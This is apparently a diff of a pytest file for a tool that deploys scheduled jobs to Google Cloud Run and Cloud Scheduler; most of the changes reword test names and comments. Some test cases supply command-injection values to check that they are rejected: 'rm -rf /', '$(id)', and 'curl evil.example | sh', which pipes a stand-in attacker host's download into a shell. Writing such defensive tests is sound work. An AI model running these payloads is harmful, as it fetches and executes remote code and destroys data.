@@ -1,4 +1,4 @@
-"""What is written for Cloud Run and Cloud Scheduler: Google's own messages, and safe commands."""
+"""The files for Cloud Run and Cloud Scheduler: Google's own messages, and safe commands."""
 
 from __future__ import annotations
 
@@ -32,7 +32,7 @@ BACKFILL = ("cloud-run-backfill", "daily_quality", "--over", "date=2026-01-01..2
 
 @pytest.fixture(autouse=True)
 def environments(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """The shipped environments; production's verdicts are told to two channels."""
+    """The shipped environments; production notifies two channels."""
     folder = tmp_path / "environments"
     folder.mkdir()
     for path in (ROOT / "params" / "environments").iterdir():
@@ -55,7 +55,7 @@ def job_in(file: Path) -> run_v2.Job:
     return run_v2.Job.from_json(file.read_text(encoding="utf-8"), ignore_unknown_fields=False)
 
 
-def test_an_entry_is_a_job_and_what_starts_it(tmp_path: Path, schedule_of: ScheduleOf) -> None:
+def test_an_entry_becomes_a_job_and_its_trigger(tmp_path: Path, schedule_of: ScheduleOf) -> None:
     schedule_of("production", {"day1_hourly": HOURLY})
     folder = tmp_path / "my deploy"
     result = deploy(folder, "cloud-run")
@@ -65,10 +65,10 @@ def test_an_entry_is_a_job_and_what_starts_it(tmp_path: Path, schedule_of: Sched
     task = job.template.template
     [container] = task.containers
     assert job.name == f"{PLACE}/jobs/runbook-day1-hourly"
-    # What the image's entry point, `runbook`, is called with.
+    # Arguments of the image's entry point, `runbook`.
     assert list(container.args) == ["schedule", "once", "--entry", "day1_hourly", "--stop-grace-seconds", "0"]
     assert container.image == IMAGE
-    # Three attempts, two delays, and room around each.
+    # Three attempts, two delays, and a margin for each.
     assert task.timeout.total_seconds() == 3 * (900 + 300) + 2 * 60
     assert task.service_account == "runbooks@nba-props-platform.iam.gserviceaccount.com"
 
@@ -81,8 +81,8 @@ def test_an_entry_is_a_job_and_what_starts_it(tmp_path: Path, schedule_of: Sched
     assert trigger.http_target.oauth_token.service_account_email == task.service_account
 
 
-def test_cloud_run_itself_tries_nothing_again(tmp_path: Path, schedule_of: ScheduleOf) -> None:
-    """It would repeat FAIL verdicts; and where the field is absent, it tries three times."""
+def test_cloud_run_itself_does_not_retry(tmp_path: Path, schedule_of: ScheduleOf) -> None:
+    """It would repeat FAIL verdicts; without the field, it retries three times."""
     schedule_of("production", {"hourly": HOURLY})
     deploy(tmp_path, "cloud-run")
     written = json.loads((tmp_path / "runbook-hourly.job.json").read_text(encoding="utf-8"))
@@ -103,7 +103,7 @@ def test_secrets_are_named_and_never_written(tmp_path: Path, schedule_of: Schedu
     assert not any("not-to-be-seen" in text for text in [*texts, result.output])
 
 
-# No such Cloud Scheduler job is there yet, so its update fails; a job's operation is done at the second look.
+# The Cloud Scheduler job does not exist yet, so its update fails; the operation is done at the second poll.
 CURL = r"""#!/bin/sh
 printf "%s|" curl "$@" >> calls; echo >> calls
 operation=projects/p/locations/l/operations/o-1
@@ -121,7 +121,7 @@ DONE = '{"done": true, "response": {}}'
 
 
 def run_script(folder: Path, script: str, end: str = DONE) -> tuple[subprocess.CompletedProcess[str], list[list[str]]]:
-    """Run it with a real shell, and stand-ins for curl and gcloud; how it ended, and what it called."""
+    """Run a script in a real shell with fakes for curl and gcloud; return its result and calls."""
     for name, text in {"curl": CURL, "gcloud": GCLOUD, "end": end}.items():
         (folder / name).write_text(text)
         (folder / name).chmod(0o755)
@@ -138,7 +138,7 @@ def run_script(folder: Path, script: str, end: str = DONE) -> tuple[subprocess.C
     return ended, [line.split("|") for line in (folder / "calls").read_text().splitlines()]
 
 
-def test_the_commands_hand_each_file_to_its_api(tmp_path: Path, schedule_of: ScheduleOf) -> None:
+def test_the_commands_send_each_file_to_its_api(tmp_path: Path, schedule_of: ScheduleOf) -> None:
     schedule_of("production", {"hourly": HOURLY, "nightly": {**HOURLY, "cron": "0 4 * * *"}})
     folder = tmp_path / "my deploy"
     script = deploy(folder, "cloud-run").output
@@ -160,14 +160,14 @@ def test_the_commands_hand_each_file_to_its_api(tmp_path: Path, schedule_of: Sch
     assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
 
 
-def test_a_job_is_started_once_it_is_as_it_was_written(tmp_path: Path) -> None:
-    """Until its operation is done it would run as it was before."""
+def test_a_job_is_started_only_after_its_update(tmp_path: Path) -> None:
+    """Until the operation is done, the old version would run."""
     script = deploy(tmp_path / "out", *BACKFILL).output
     ended, called = run_script(tmp_path, script)
     assert ended.returncode == 0, ended.stderr
     wait = "https://run.googleapis.com/v2/projects/p/locations/l/operations/o-1:wait"
-    told = [words[-2] if words[0] == "curl" else words[3] for words in called if "print-access-token" not in words]
-    assert told == [
+    calls = [words[-2] if words[0] == "curl" else words[3] for words in called if "print-access-token" not in words]
+    assert calls == [
         f"https://run.googleapis.com/v2/{PLACE}/jobs/backfill-daily-quality?allowMissing=true",
         wait,
         wait,
@@ -175,7 +175,7 @@ def test_a_job_is_started_once_it_is_as_it_was_written(tmp_path: Path) -> None:
     ]
 
 
-def test_a_job_that_was_refused_is_not_started(tmp_path: Path) -> None:
+def test_a_refused_job_is_not_started(tmp_path: Path) -> None:
     script = deploy(tmp_path / "out", *BACKFILL).output
     ended, called = run_script(tmp_path, script, end='{"done": true, "error": {"message": "no such image"}}')
     assert ended.returncode == 1
@@ -208,33 +208,33 @@ def test_an_entry_and_a_backfill_are_never_the_same_job(tmp_path: Path, schedule
 
 
 @pytest.mark.parametrize(
-    ("entries", "options", "told"),
+    ("entries", "options", "expected"),
     [
-        ({"hourly": HOURLY}, {"env": "local"}, "environment local is embedded"),
+        ({"hourly": HOURLY}, {"env": "local"}, "environment local has the platform embedded"),
         ({"hourly": HOURLY}, {"image": "runbooks:1.0; rm -rf /"}, "Cloud Run needs an image"),
         ({"hourly": HOURLY}, {"image": "$(id)"}, "Cloud Run needs an image"),
         ({"hourly": HOURLY}, {"outputs": "/var/outputs"}, "Cloud Run needs a bucket"),
         ({"hourly": HOURLY}, {"outputs": "gs://bucket/'$(id)'"}, "Cloud Run needs a bucket"),
-        ({"hourly": {**HOURLY, "cron": "0 9 * * 5L"}}, {}, "plain form"),
-        ({"hourly": {**HOURLY, "timeout_seconds": 600_000}}, {}, "ends a task after a week"),
-        ({"a_b": HOURLY, "a-b": HOURLY}, {}, "both be the job runbook-a-b"),
+        ({"hourly": {**HOURLY, "cron": "0 9 * * 5L"}}, {}, "without extensions"),
+        ({"hourly": {**HOURLY, "timeout_seconds": 600_000}}, {}, "stops every task after a week"),
+        ({"a_b": HOURLY, "a-b": HOURLY}, {}, "the same job name runbook-a-b"),
         ({"ends-with-": HOURLY}, {}, "the job's name is 'runbook-ends-with-'"),
         ({"hourly": {**HOURLY, "environment": "local"}}, {}, "no entry of production, only of local"),
     ],
 )
-def test_what_cloud_run_would_refuse_is_one_line(
-    entries: dict[str, Any], options: dict[str, str], told: str, tmp_path: Path, schedule_of: ScheduleOf
+def test_a_job_that_cloud_run_would_refuse_is_one_line(
+    entries: dict[str, Any], options: dict[str, str], expected: str, tmp_path: Path, schedule_of: ScheduleOf
 ) -> None:
     schedule_of("production", entries)
     result = deploy(tmp_path / "out", "cloud-run", **options)
     assert result.exit_code == 2
     [line] = result.output.splitlines()
-    assert told in line
+    assert expected in line
     assert not (tmp_path / "out").exists()
 
 
 @pytest.mark.parametrize("place", ["project_id", "region"])
-def test_an_environment_cannot_slip_a_command_in(place: str, environments: Path, tmp_path: Path) -> None:
+def test_an_environment_cannot_inject_a_command(place: str, environments: Path, tmp_path: Path) -> None:
     file = environments / "production.yaml"
     file.write_text(yaml.safe_dump({**yaml.safe_load(file.read_text()), place: "x; curl evil.example | sh"}))
     result = deploy(tmp_path / "out", *BACKFILL)
